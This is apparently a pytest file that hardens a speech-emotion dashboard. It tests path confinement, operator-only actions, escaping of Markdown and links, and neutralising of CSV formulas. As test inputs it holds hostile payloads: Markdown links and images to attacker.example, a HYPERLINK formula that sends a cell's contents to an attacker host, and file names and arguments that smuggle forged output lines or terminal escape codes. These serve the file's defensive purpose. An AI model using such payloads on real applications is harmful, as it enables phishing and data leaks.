"""What a page may read: only data/ and the folders the operator allowed; nothing of the server leaks."""

import json
import os

from tests.app.test_app import no_exception, open_app, plain
from tests.conftest import DEMO
from tests.unit.test_access import operator_corpus


def _add(at, folder: str):
    at.text_input(key="other_dataset").set_value(folder).run()
    next(b for b in at.button if b.label == "Add dataset").click().run()
    no_exception(at)
    return at


def _everything_shown(at) -> str:
    parts = [e.value for e in at.error] + [m.value for m in at.markdown] + [c.value for c in at.caption]
    parts += [str(o) for s in at.selectbox for o in s.options]
    return "\n".join(parts)


def test_server_files_are_refused_and_never_quoted(monkeypatch):
    monkeypatch.delenv("SER_DATA_ROOTS", raising=False)
    at = _add(open_app(), "/proc/self/environ")
    errors = [e.value.replace("\\", "") for e in at.error]  # shown escaped: \/proc\/self...
    assert any("/proc/self/environ: this folder is outside the folders the dashboard may read" in e for e in errors)
    shown = _everything_shown(at)
    assert "PATH=" not in shown and os.environ.get("HOME", "/root") + "\n" not in shown
    assert "/proc/self/environ" not in at.selectbox(key="p_dataset").options


def test_a_folder_outside_data_needs_the_operators_permission(tmp_path, monkeypatch):
    folder = tmp_path / "mine"
    folder.mkdir()
    (folder / "all_labels.csv").write_text((DEMO / "all_labels.csv").read_text())
    monkeypatch.delenv("SER_DATA_ROOTS", raising=False)
    at = _add(open_app(), str(folder))
    assert any("outside the folders the dashboard may read" in e.value for e in at.error)
    assert at.selectbox(key="p_dataset").value == str(DEMO / "all_labels.csv")

    monkeypatch.setenv("SER_DATA_ROOTS", str(tmp_path))
    at = _add(open_app(), str(folder))
    assert not at.error
    assert at.selectbox(key="p_dataset").value == str((folder / "all_labels.csv").resolve())


def test_a_link_inside_data_to_a_server_folder_is_refused(tmp_path, monkeypatch):
    from ser.paths import PROJECT

    link = PROJECT / "data" / f"link-{os.getpid()}"
    target = tmp_path / "outside"
    target.mkdir()
    (target / "all_labels.csv").write_text("path,emotion\n")
    link.symlink_to(target)
    try:
        monkeypatch.delenv("SER_DATA_ROOTS", raising=False)
        at = _add(open_app(), str(link))
        assert any("outside the folders the dashboard may read" in e.value for e in at.error)
        assert all("outside" not in o for o in at.selectbox(key="p_dataset").options)
    finally:
        link.unlink()


# --- Item 5 of the hardening issue: what a person typed or uploaded is escaped wherever it is drawn ---------

HOSTILE = "![x](http://attacker.example/p.png)"
ANCHOR = '<a href="http://attacker.example">Sign in</a>'


def _markdown_shown(at) -> list[str]:
    """The source of every element Streamlit renders as Markdown."""
    kinds = ("markdown", "caption", "title", "header", "subheader", "error", "warning", "info", "success")
    return [str(e.value) for kind in kinds for e in at.get(kind)]


def _hostile_dataset(root):
    """Two demo clips, one under a file name that is a Markdown link, spoken by a speaker named like an image."""
    import shutil

    import pandas as pd

    labels = pd.read_csv(DEMO / "all_labels.csv").head(2).copy()
    (root / "hostile").mkdir()
    paths = ["[Sign in](http:attacker.example).wav", "plain.wav"]
    for src, dst in zip(labels.path, paths):
        shutil.copy(DEMO / src, root / "hostile" / dst)
    labels["path"], labels["speaker"] = paths, [HOSTILE, ANCHOR]
    labels.to_csv(root / "hostile" / "all_labels.csv", index=False)
    return root / "hostile"


def test_speaker_and_file_names_are_not_markdown_on_the_dataset_page(tmp_path, monkeypatch):
    folder = _hostile_dataset(tmp_path)
    monkeypatch.setenv("SER_DATA_ROOTS", str(tmp_path))
    at = _add(open_app(), str(folder))
    shown = _markdown_shown(at)
    assert any("attacker" in s for s in shown), "the clip view names the clip and its speaker"
    for s in shown:
        assert HOSTILE not in s and "[Sign in](http:" not in s, s
    charts = " ".join(json.dumps(json.loads(c.proto.spec)) for c in at.get("plotly_chart"))
    assert "attacker" in charts and "<a href" not in charts, "a speaker's name is a chart label, not a link"


def test_test_speakers_of_a_model_are_not_markdown_on_the_evaluate_page(own_models_folder):
    import pandas as pd

    split_csv = own_models_folder / "default" / "split.csv"
    split = pd.read_csv(split_csv)
    split.loc[split.split == "test", "speaker"] = HOSTILE
    split.to_csv(split_csv, index=False)
    at = open_app("pages/evaluate.py")
    no_exception(at)
    shown = _markdown_shown(at)
    assert any("attacker" in s for s in shown)
    assert all(HOSTILE not in s for s in shown)


# --- Item 2 of the hardening issue: no page decodes a whole file before checking its length ------------------

def test_an_hour_long_clip_is_refused_from_its_header_on_every_page_that_shows_it(tmp_path, monkeypatch):
    """A 1 MB FLAC of an hour in stereo (230 MB decoded) gets one line on Browse and Augmentations, no decode."""
    from ser.audio.reader import BLOCK_S
    from tests.app.test_dataset_page import long_dataset, plain
    from tests.unit.audio.test_reader import spy_reads

    csv = long_dataset(tmp_path, channels=2)
    monkeypatch.setenv("SER_DATA_ROOTS", str(tmp_path))
    at = open_app()
    asked = spy_reads(monkeypatch)
    _add(at, str(csv.parent))
    for page in (None, "pages/augment.py"):
        if page:
            at.switch_page(page).run()
        no_exception(at)
        errors = [plain(e.value) for e in at.error]
        assert errors == ["hour.flac: 3600 s is too long (limit 600 s); cut it into shorter clips."], page
        assert not at.get("audio") and max(asked, default=0) <= BLOCK_S, f"{page}: decoded {max(asked):.0f} s"


# --- Items 9 and 10: no traceback, no server path ------------------------------------------------------------


def test_messages_name_the_allowed_folders_without_the_servers_layout(tmp_path, monkeypatch):
    from ser.paths import PROJECT

    monkeypatch.setenv("SER_DATA_ROOTS", str(tmp_path / "corpora"))
    at = _add(open_app(), "/etc")
    errors = [e.value for e in at.error]
    message = errors[0].replace("\\", "")
    assert len(errors) == 1 and "outside the folders the dashboard may read (data, …/" in message
    assert "…/corpora)" in message
    assert str(PROJECT) not in _everything_shown(at) and str(tmp_path) not in errors[0]


def test_an_os_error_on_a_page_is_one_line_without_a_traceback(monkeypatch):
    import pages._ui.datasets

    def unreadable(*a, **k):
        raise PermissionError(13, "Permission denied", "/srv/secret/all_labels.csv")

    monkeypatch.setattr(pages._ui.datasets, "load_labels", unreadable)
    at = open_app()
    no_exception(at)
    errors = [e.value for e in at.error]
    assert len(errors) == 1 and "all_labels.csv: permission denied" in errors[0].replace("\\", "").lower()
    assert "/srv/secret" not in errors[0].replace("\\", "")


def test_the_browser_shows_no_error_details():
    import tomllib

    from tests.conftest import REPO

    config = tomllib.loads((REPO / ".streamlit" / "config.toml").read_text())
    assert config["client"]["showErrorDetails"] == "none"


# --- Item 6 of the hardening issue: a visitor cannot destroy or alter shared data ---------------------------

OPERATOR_PASSWORD = "op-pw-7c1e9"  # the tests' own; never a real one


def _session(secrets: dict | None = None, page: str | None = None):
    """An app session; ``secrets`` as .streamlit/secrets.toml would give them (a key of their own keeps the
    checkout's secrets.toml out of the test)."""
    from streamlit.testing.v1 import AppTest

    from tests.app.test_app import APP

    at = AppTest.from_file(APP, default_timeout=180)
    at.secrets.update(secrets or {"unrelated": "x"})
    at.run()
    if page:
        at.switch_page(page).run()
    return at


def _sign_in(at, password: str):
    at.sidebar.text_input(key="op_password").set_value(password)
    next(b for b in at.sidebar.get("form_submit_button") if b.label == "Sign in").click().run()
    no_exception(at)
    return at


def operator_app(page: str | None = None):
    """An app session signed in as the operator (with the tests' own password)."""
    return _sign_in(_session({"operator_password": OPERATOR_PASSWORD}, page=page), OPERATOR_PASSWORD)


def _all_text(at) -> str:
    """Every value the page shows a person (and every widget's value)."""
    kinds = ("markdown", "caption", "error", "warning", "info", "success", "text", "code", "subheader", "toast")
    parts = [str(getattr(e, "value", "")) for k in kinds for e in at.get(k)]
    parts += [str(w.value) for w in at.text_input]
    return "\n".join(parts)


def _theirs(folder):
    """A dataset or model another visitor's session made."""
    from ser.access import MARKER, Visitor

    folder.mkdir(parents=True, exist_ok=True)
    (folder / MARKER).write_text(json.dumps({"made_by": "browser", "owner": Visitor("someone-else").owner_id}))
    return folder


def _upload_as(at, name: str):
    from tests.app.test_dataset_page import _folders_zip

    at.radio(key="p_ds_mode").set_value("New dataset from files").run()
    at.file_uploader(key="nd_files_0").set_value(("my clips.zip", _folders_zip(1), "application/zip")).run()
    at.text_input(key="nd_name").set_value(name).run()
    no_exception(at)
    return at


def test_a_visitor_cannot_replace_the_demo_or_an_operators_corpus_even_with_the_tick(own_datasets_folder,
                                                                                     monkeypatch):
    from ser.paths import PROJECT

    corpus = operator_corpus(own_datasets_folder / "corpus")
    at = _upload_as(_session(), "corpus")
    assert not [c for c in at.checkbox if c.key == "nd_overwrite_corpus"]
    assert at.button(key="nd_save").disabled  # and save_dataset refuses it anyway (tests/unit/test_access.py)
    assert any("“corpus” is a protected dataset" in plain(c.value) for c in at.caption)
    assert (corpus / "NOTES.md").is_file() and "old.wav" in (corpus / "all_labels.csv").read_text()

    monkeypatch.setenv("SER_DATASETS_DIR", str(PROJECT / "data"))  # where the demo clips are
    before = (PROJECT / "data" / "demo" / "all_labels.csv").read_bytes()
    try:
        at = _upload_as(_session(), "demo")
        assert not [c for c in at.checkbox if c.key == "nd_overwrite_demo"] and at.button(key="nd_save").disabled
        assert any("the shipped demo clips are not changed" in plain(c.value) for c in at.caption)
        assert (PROJECT / "data" / "demo" / "all_labels.csv").read_bytes() == before
    finally:
        from ser.datasets.importing import discard

        if at.session_state["nd_unpacked"] if "nd_unpacked" in at.session_state else None:
            discard(at.session_state["nd_unpacked"])


def _record_into(at, name: str):
    clip = next((DEMO / "Actor_12").glob("*.wav"))
    at.radio(key="p_ds_mode").set_value("Record clips").run()
    at.text_input(key="p_rec_dataset").set_value(name).run()
    at.text_input(key="rec_speaker").set_value("anna").run()
    at.audio_input(key="rec_audio_0").set_value(("rec.wav", clip.read_bytes(), "audio/wav")).run()
    no_exception(at)
    return at


def test_a_visitor_cannot_record_into_a_protected_or_another_sessions_dataset(own_datasets_folder):
    corpus = operator_corpus(own_datasets_folder / "corpus")
    theirs = _theirs(own_datasets_folder / "theirs")
    for folder in (corpus, theirs):
        at = _record_into(_session(), folder.name)
        assert at.button(key="rec_keep").disabled
        assert any(f"“{folder.name}”" in plain(i.value) and ("protected" in plain(i.value) or "read-only" in plain(i.value))
                   for i in at.info)
        assert not (folder / "anna").exists()
    assert (corpus / "all_labels.csv").read_text() == "path,emotion,speaker\nold.wav,sad,x\n"

    mine = _record_into(_session(), "mine")
    mine.button(key="rec_keep").click().run()
    assert any(plain(s.value) == "Kept anna/neutral/anna_neutral_001.wav." for s in mine.success)  # a new name is theirs
    other = _record_into(_session(), "mine")  # another visitor's session
    assert other.button(key="rec_keep").disabled
    assert len((own_datasets_folder / "mine" / "all_labels.csv").read_text().splitlines()) == 2


def test_a_visitor_cannot_train_default_nor_over_a_protected_model(own_models_folder):
    import shutil

    from ser.training.runs import current_run

    shutil.copytree(own_models_folder / "default", own_models_folder / "cli-model")  # made with the CLI
    for name, why in (("default", "model name 'default' is reserved"),
                      ("cli-model", "“cli-model” is a protected model")):
        at = _session(page="pages/train.py")
        at.text_input(key="p_tr_name").set_value(name)
        next(b for b in at.get("form_submit_button") if "Start" in b.label).click().run()
        no_exception(at)
        assert any(why in plain(e.value) for e in at.error), [e.value for e in at.error]
    assert current_run(own_models_folder) is None
    assert (own_models_folder / "default" / "model.onnx").is_file()


def test_the_operator_with_the_password_does_the_operator_actions_and_it_is_never_shown(own_datasets_folder,
                                                                                       tmp_path, monkeypatch):
    import numpy as np

    from ser.features.cache import FeatureCache

    cache = FeatureCache(tmp_path / "features")
    cache.put("aa1", np.zeros((182, 1000), dtype=np.float32))
    monkeypatch.setenv("SER_CACHE_DIR", str(tmp_path / "features"))
    _theirs(own_datasets_folder / "theirs")
    (own_datasets_folder / "theirs" / "all_labels.csv").write_text("path,emotion,speaker\nold.wav,sad,x\n")
    at = _session({"operator_password": OPERATOR_PASSWORD})
    assert next(b for b in at.sidebar.button if b.label == "Clear the feature cache").disabled  # a visitor
    at = _sign_in(at, OPERATOR_PASSWORD)
    assert any("Signed in as the operator" in c.value for c in at.sidebar.caption)
    assert OPERATOR_PASSWORD not in _all_text(at) and OPERATOR_PASSWORD not in str(dict(at.session_state))
    next(b for b in at.sidebar.button if b.label == "Clear the feature cache").click().run()
    assert cache.size_bytes() == 0
    at = _upload_as(at, "theirs")  # another visitor's dataset: the operator may replace it
    at.checkbox(key="nd_overwrite_theirs").check().run()
    at.button(key="nd_save").click().run()
    no_exception(at)
    assert "old.wav" not in (own_datasets_folder / "theirs" / "all_labels.csv").read_text()
    at.sidebar.selectbox(key="op_delete_choice").set_value("dataset: theirs").run()
    at.sidebar.checkbox(key="op_delete_sure").check().run()
    at.sidebar.button(key="op_delete").click().run()
    no_exception(at)
    assert not (own_datasets_folder / "theirs").exists()
    assert OPERATOR_PASSWORD not in _all_text(at)


def test_a_wrong_password_or_none_configured_unlocks_nothing(own_datasets_folder):
    _theirs(own_datasets_folder / "theirs")
    at = _sign_in(_session({"operator_password": OPERATOR_PASSWORD}), "guess-" + OPERATOR_PASSWORD)
    assert [plain(e.value) for e in at.sidebar.error] == ["Wrong operator password."]
    assert "guess-" not in _all_text(at)
    assert next(b for b in at.sidebar.button if b.label == "Clear the feature cache").disabled
    assert not [b for b in at.sidebar.button if b.key == "op_delete"]
    at = _upload_as(at, "theirs")
    assert not [c for c in at.checkbox if c.key == "nd_overwrite_theirs"] and at.button(key="nd_save").disabled

    at = _session()  # no operator_password configured: nobody is the operator
    assert any("No operator password is set" in c.value for c in at.sidebar.caption)
    assert not [t for t in at.sidebar.text_input if t.key == "op_password"]


def test_only_the_starter_or_the_operator_sees_stop_on_a_training(own_models_folder):
    from ser.access import mark, Visitor
    from ser.training.runs import claim

    staging = own_models_folder / ".staging" / "theirs-run"
    staging.mkdir(parents=True)
    mark(staging, Visitor("someone-else"))
    claim(own_models_folder, name="theirs-run", staging=staging)  # this test's process: alive
    at = _session({"operator_password": OPERATOR_PASSWORD}, page="pages/train.py")
    assert not [b for b in at.button if "Stop training" in b.label]
    assert any("started by someone else: only they or the operator can stop it" in plain(c.value)
               for c in at.caption)
    at = _sign_in(at, OPERATOR_PASSWORD)
    next(b for b in at.button if "Stop training" in b.label).click().run()
    no_exception(at)
    assert (staging / "STOP").is_file()


def test_a_formula_in_a_speaker_or_file_name_is_text_in_every_csv_ser_writes(tmp_path):
    # issue 22 item 12: cells starting with = + - @ went raw into the CSVs an operator opens in a spreadsheet
    import csv
    import io
    import zipfile

    import numpy as np

    from ser import EMOTIONS
    from ser.results.evaluate import read_results, write_report
    from ser.datasets.importing import plan_labels, preview, save_dataset, unpack
    from ser.datasets.labels import read_labels

    evil = '=HYPERLINK("http://attacker/?"&A1,"click")'
    clip = next(DEMO.rglob("*.wav")).read_bytes()
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("a.wav", clip)
        z.writestr("-b.wav", clip)
        z.writestr("all_labels.csv", f'path,emotion,speaker\na.wav,sad,"{evil.replace(chr(34), chr(34) * 2)}"\n'
                                     "-b.wav,happy,@anna\n")
    unpacked = unpack(buf.getvalue(), datasets_dir=tmp_path, name="up.zip")
    saved = save_dataset(unpacked, preview(unpacked, plan_labels(unpacked))["labels"], name="evil",
                         datasets_dir=tmp_path)
    write_report(tmp_path / "m", paths=["-b.wav", evil], y_true=["sad", "happy"], probs=np.eye(8)[:2],
                 emotions=EMOTIONS)
    for f in (saved / "all_labels.csv", tmp_path / "m" / "predictions.csv"):
        with open(f, newline="") as handle:
            cells = [c for row in csv.reader(handle) for c in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], f.name
    labels = read_labels(saved / "all_labels.csv")  # ser reads its own files back as they were
    assert set(labels["speaker"]) == {evil, "@anna"} and set(labels["path"]) == {"a.wav", "-b.wav"}
    assert list(read_results(tmp_path / "m")["predictions"]["path"]) == ["-b.wav", evil]


def test_the_tables_built_in_csv_export_is_off():
    # issue 22 item 12: st.dataframe's toolbar downloads (and copies) the shown cells raw, formulas included
    import tomllib

    from tests.conftest import REPO

    config = tomllib.loads((REPO / ".streamlit" / "config.toml").read_text())
    assert config["client"]["disableDataExport"] is True


def test_train_out_never_deletes_a_folder_that_is_not_a_model(tmp_path, capsys):
    # issue 22 item 3: `ser train --out data/demo` would have replaced (deleted) the demo clips
    from ser.__main__ import main
    from tests.conftest import DEMO

    before = sorted(p.relative_to(DEMO) for p in DEMO.rglob("*"))
    assert main(["train", "--labels", str(tmp_path / "missing.csv"), "--out", str(DEMO)]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and f"{DEMO}: is a folder that is not a model made by ser" in err
    assert sorted(p.relative_to(DEMO) for p in DEMO.rglob("*")) == before


def test_stopping_stale_workers_never_signals_a_reused_pid(tmp_path):
    # issue 22 item 13: the worker's pid now belongs to another process (its start time differs)
    import json
    import subprocess
    import sys

    from ser.parallel.processes import process_started
    from ser.parallel.workers import stop_stale_workers

    other = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
    gone = subprocess.Popen([sys.executable, "-c", "pass"])
    gone.wait()
    try:
        (tmp_path / f"{other.pid}.json").write_text(json.dumps({"pid": other.pid, "parent": gone.pid,
                                                                 "started": 0, "pid_started": process_started(other.pid) + 7}))
        assert stop_stale_workers(tmp_path) == 0 and other.poll() is None
    finally:
        other.kill()
        other.wait()


def test_a_file_name_cannot_forge_a_line_of_predict_output(tmp_path, capsys):
    # issue 22 item 14
    import shutil

    from ser.__main__ import main
    from tests.conftest import DEFAULT_MODEL, DEMO

    forged = tmp_path / "a.wav\nb.wav: angry (angry 1.00)"
    shutil.copy(next(DEMO.rglob("*.wav")), forged)
    main(["predict", "--model", str(DEFAULT_MODEL), str(forged)])
    out = capsys.readouterr().out
    assert out.count("\n") == 1 and "a.wav\\nb.wav: angry (angry 1.00)" in out


def test_an_uploaded_file_name_is_not_markdown_on_the_predict_page():
    clip = next((DEMO / "Actor_19").glob("*.wav"))
    at = open_app("pages/predict.py")
    at.file_uploader(key="uploads").set_value((f"{HOSTILE}.wav", clip.read_bytes(), "audio/wav")).run()
    no_exception(at)
    shown = _markdown_shown(at)
    assert any("attacker" in s for s in shown), "the upload's name heads its result"
    assert all(HOSTILE not in s for s in shown)


def test_an_emotions_choice_cannot_forge_a_line_of_output(tmp_path, capsys):
    # issue 19 part 3: --emotions is the user's text, echoed in the refusal
    from ser.__main__ import main
    from tests.conftest import DEFAULT_MODEL, DEMO

    clip = str(next(DEMO.rglob("*.wav")))
    assert main(["predict", "--model", str(DEFAULT_MODEL), "--emotions", "angry,sad\nerror: none\x1b[2J", clip]) == 2
    out, err = capsys.readouterr()
    assert out == "" and err.count("\n") == 1 and "\x1b" not in err and "is not an emotion this model knows" in err
